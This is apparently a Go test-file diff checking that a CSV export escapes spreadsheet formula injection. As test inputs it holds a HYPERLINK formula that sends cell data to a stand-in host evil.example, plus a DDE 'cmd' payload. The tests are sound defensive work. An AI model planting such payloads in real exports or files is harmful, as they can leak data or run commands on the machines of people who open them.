@@ -86,3 +86,54 @@ func TestJSONL(t *testing.T) {
 		t.Errorf("a claim line does not keep the open range: %s", lines[2])
 	}
 }
+
+// TestEventsCSVNeutralisesFormulas checks that no cell of the CSV export
+// begins with a character a spreadsheet reads as a formula, whatever the
+// article says, while plain negative numbers stay numbers.
+func TestEventsCSVNeutralisesFormulas(t *testing.T) {
+	ev := sampleEvent()
+	ev.Evidence[0].Quote = `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	ev.Participants = []muster.Participant{
+		{Entity: muster.Ref{Name: "+cmd|' /C calc'!A0"}, Role: muster.RoleActor},
+		{Entity: muster.Ref{Name: "@SUM(1+1)"}, Role: muster.RoleTarget},
+	}
+	ev.Label = "-2+3"
+	ev.Places = []muster.Ref{{ID: "e_x", Name: "\tTabbed", Type: "place"}}
+	places := map[string]muster.Place{"e_x": {Lat: -33.92, Lon: -68.3, Country: "\rAR", Precision: muster.PrecisionExact}}
+	var b bytes.Buffer
+	if err := export.EventsCSV(&b, []muster.Event{ev}, places); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]string{}
+	for i, h := range rows[0] {
+		got[h] = rows[1][i]
+	}
+	for _, cell := range rows[1] {
+		if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
+			t.Errorf("cell %q begins with a formula character", cell)
+		}
+	}
+	for col, want := range map[string]string{
+		"notes": `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "actor1": "'+cmd|' /C calc'!A0", "actor2": "'@SUM(1+1)",
+		"location": "'\tTabbed", "country": "'\rAR", "latitude": "-33.92000", "longitude": "-68.30000",
+	} {
+		if got[col] != want {
+			t.Errorf("%s = %q, want %q", col, got[col], want)
+		}
+	}
+}
+
+func TestSafeCell(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"", ""}, {"plain", "plain"}, {"=1+1", "'=1+1"}, {"+1", "+1"}, {"+1+cmd", "'+1+cmd"}, {"-5", "-5"},
+		{"-2+3", "'-2+3"}, {"@x", "'@x"}, {"\tx", "'\tx"}, {"\rx", "'\rx"}, {"=5", "'=5"}, {"a=b", "a=b"},
+	} {
+		if got := export.SafeCell(tc.in); got != tc.want {
+			t.Errorf("SafeCell(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
